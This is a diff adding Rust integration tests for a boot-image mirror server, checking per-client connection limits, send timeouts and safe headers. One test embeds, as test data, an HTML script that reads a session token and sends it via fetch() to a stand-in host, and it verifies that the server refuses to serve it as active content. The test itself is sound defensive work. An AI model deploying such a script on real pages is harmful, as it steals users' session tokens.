@@ -1,0 +1,225 @@
+//! Hostile HTTP clients and hostile upstream content against the real binary: one
+//! address holding many stalled downloads, a body nobody reads, an upstream file
+//! named `….html`, credentials in source URLs, and API bodies of the wrong shape.
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::time::{Duration, Instant};
+
+use crate::harness::*;
+use crate::http::{post_sync, rack_with_token};
+use crate::mirror::*;
+use crate::serve::{kernel_of, products, rack, KERNEL, SHA512};
+
+/// A TCP connection to `to` from the loopback address `from`.
+fn connect_from(from: &str, to: SocketAddr) -> std::io::Result<TcpStream> {
+    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
+    let local: SocketAddr = format!("{from}:0").parse().unwrap();
+    s.bind(&local.into())?;
+    s.connect_timeout(&to.into(), Duration::from_secs(5))?;
+    let c = TcpStream::from(s);
+    c.set_read_timeout(Some(Duration::from_secs(20)))?;
+    Ok(c)
+}
+
+/// One request on a fresh connection from `from`; the whole answer ("" when the
+/// server closed the connection without one).
+fn request_from(from: &str, to: SocketAddr, path: &str) -> Vec<u8> {
+    let Ok(mut c) = connect_from(from, to) else {
+        return vec![];
+    };
+    let req = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+    let _ = c.write_all(req.as_bytes());
+    let mut out = Vec::new();
+    let _ = c.read_to_end(&mut out);
+    out
+}
+
+/// The value of one sample line (`name{labels} value`) of `/metrics`.
+fn metric(s: &Served, sample: &str) -> f64 {
+    let (code, body) = s.get("/metrics");
+    assert_eq!(code, 200);
+    let text = String::from_utf8(body).unwrap();
+    text.lines()
+        .find_map(|l| l.strip_prefix(sample)?.strip_prefix(' '))
+        .unwrap_or_else(|| panic!("no sample {sample:?} in:\n{text}"))
+        .trim()
+        .parse()
+        .unwrap()
+}
+
+/// A response's status line and headers (lowercase names), from curl.
+fn headers(url: &str, extra: &[&str]) -> (u16, Vec<(String, String)>) {
+    let out = std::process::Command::new("curl")
+        .args(["-s", "--max-time", "30", "-o", "/dev/null", "-D", "-"])
+        .args(extra)
+        .arg(url)
+        .output()
+        .expect("curl is installed");
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let mut lines = text.lines();
+    let code = lines
+        .next()
+        .and_then(|l| l.split_whitespace().nth(1))
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0);
+    let h = lines
+        .filter_map(|l| l.split_once(':'))
+        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
+        .collect();
+    (code, h)
+}
+
+fn header<'a>(h: &'a [(String, String)], name: &str) -> Option<&'a str> {
+    h.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
+}
+
+#[test]
+fn stalled_downloads_from_one_address_do_not_lock_out_another() {
+    let size = 8 << 20;
+    let r = rack(
+        size,
+        "auto = false",
+        "max_connections = 64\nmax_connections_per_client = 8\nsend_timeout = \"3s\"\n",
+    );
+    let s = r.env.serve();
+    s.wait_generation(1, Duration::from_secs(60));
+    // 250 downloads from 127.0.0.2 that never read a byte.
+    let mut stalled = Vec::new();
+    for _ in 0..250 {
+        if let Ok(mut c) = connect_from("127.0.0.2", s.http) {
+            let req = format!("GET {KERNEL} HTTP/1.1\r\nHost: x\r\n\r\n");
+            let _ = c.write_all(req.as_bytes());
+            stalled.push(c);
+        }
+    }
+    wait_until(Duration::from_secs(20), "the cap's transfers", || {
+        metric(&s, "rackboot_http_transfers_in_flight") == 8.0
+    });
+    // Another machine is served, whole.
+    let start = Instant::now();
+    let answer = request_from("127.0.0.3", s.http, KERNEL);
+    assert!(
+        answer.starts_with(b"HTTP/1.1 200"),
+        "no answer for 127.0.0.3"
+    );
+    let body = &answer[answer.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4..];
+    assert_eq!(sha256_hex(body), sha256_hex(&kernel_of("20261101", size)));
+    assert!(
+        start.elapsed() < Duration::from_secs(3),
+        "{:?}",
+        start.elapsed()
+    );
+    assert!(metric(&s, "rackboot_http_connections_rejected_total") >= 242.0);
+    // The refusals are logged, but not once per connection.
+    let log = s.log_text();
+    let warned = log.matches("max_connections_per_client").count();
+    assert!((1..=3).contains(&warned), "{warned} warnings:\n{log}");
+    assert!(log.contains("127.0.0.2 has 8 connections open"), "{log}");
+    // The stalled bodies are closed after send_timeout; 127.0.0.2 may connect again.
+    wait_until(
+        Duration::from_secs(15),
+        "the stalled bodies to close",
+        || metric(&s, "rackboot_http_transfers_in_flight") == 0.0,
+    );
+    assert!(metric(&s, "rackboot_http_errors_total{kind=\"send_timeout\"}") >= 8.0);
+    let again = request_from("127.0.0.2", s.http, "/api/v1/status");
+    assert!(again.starts_with(b"HTTP/1.1 200"));
+    drop(stalled);
+}
+
+#[test]
+fn a_body_nobody_reads_is_closed_after_send_timeout_and_its_generation_collected() {
+    let size = 8 << 20;
+    let r = rack_with_token(size, "auto = false", "send_timeout = \"2s\"\n");
+    let s = r.env.serve();
+    s.wait_generation(1, Duration::from_secs(60));
+    let mut stalled = TcpStream::connect(s.http).unwrap();
+    stalled
+        .write_all(format!("GET {KERNEL} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes())
+        .unwrap();
+    wait_until(Duration::from_secs(20), "the transfer to start", || {
+        metric(&s, "rackboot_http_transfers_in_flight") == 1.0
+    });
+    let started = Instant::now();
+    wait_until(
+        Duration::from_secs(20),
+        "the stalled transfer to end",
+        || metric(&s, "rackboot_http_transfers_in_flight") == 0.0,
+    );
+    let took = started.elapsed();
+    assert!(took >= Duration::from_millis(1500), "{took:?}");
+    // The client gets less than the file, then the end of the connection.
+    stalled
+        .set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    let mut got = Vec::new();
+    let _ = stalled.read_to_end(&mut got);
+    assert!(got.len() < size, "{} bytes", got.len());
+    // Nothing holds generation 1 any more: the next publication collects it.
+    for (generation, version) in [(2, "20261120"), (3, "20261201")] {
+        write_stream(&r.env.mirror, &products(version, size), &r.key, SHA512);
+        assert_eq!(post_sync(&s).0, 202);
+        s.wait_generation(generation, Duration::from_secs(60));
+    }
+    assert!(!r.env.state.join("snapshots/1").exists());
+}
+
+#[test]
+fn upstream_files_are_never_active_content_and_every_answer_says_nosniff() {
+    let env = Env::new();
+    let key = TestKey::generate();
+    key.write_keyring(&env.keyring);
+    // An item whose upstream name ends in .html and whose bytes are a page with a
+    // script that would read the page's token.
+    let mut p = products("20261101", 4096);
+    let evil = b"<html><script>fetch('//x/'+sessionStorage.getItem('rackboot-token'))</script>";
+    let squash = &mut p[0].versions.values_mut().next().unwrap()[2];
+    squash.path = format!("{}.html", squash.path);
+    squash.data = evil.to_vec();
+    let path = format!("/{}", squash.path);
+    write_stream(&env.mirror, &p, &key, SHA512);
+    let mirror = MirrorServer::start(&env.mirror);
+    env.write_config(
+        &mirror.url(),
+        &["amd64"],
+        &format!("auto = false\n{}", crate::serve::LISTEN),
+    );
+    let s = env.serve();
+    s.wait_generation(1, Duration::from_secs(60));
+    let (code, body) = s.get(&path);
+    assert_eq!((code, body.as_slice()), (200, &evil[..]));
+    let (code, h) = headers(&s.url(&path), &[]);
+    assert_eq!(code, 200);
+    assert_eq!(
+        header(&h, "content-type"),
+        Some("application/octet-stream"),
+        "{h:?}"
+    );
+    assert_eq!(header(&h, "x-content-type-options"), Some("nosniff"));
+    assert_eq!(
+        header(&h, "content-security-policy"),
+        Some("default-src 'none'; sandbox")
+    );
+    // Every other answer too: snapshot files, the stream's metadata, the API,
+    // errors, boot configs.
+    for p in [
+        KERNEL,
+        "/streams/v1/index.json",
+        "/api/v1/status",
+        "/no/such/file",
+        "/ipxe.cfg",
+    ] {
+        let (_, h) = headers(&s.url(p), &[]);
+        assert_eq!(header(&h, "x-content-type-options"), Some("nosniff"), "{p}");
+        let csp = header(&h, "content-security-policy").unwrap_or_default();
+        assert!(csp.contains("default-src 'none'"), "{p}: {csp}");
+    }
+    // The page: its own script (by hash) and nothing inline besides.
+    let (code, h) = headers(&s.url("/"), &[]);
+    assert_eq!(code, 200);
+    let csp = header(&h, "content-security-policy").unwrap();
+    assert!(csp.contains("script-src 'sha256-"), "{csp}");
+    assert!(!csp.contains("unsafe-inline"), "{csp}");
+    assert!(csp.contains("connect-src 'self'"), "{csp}");
+}
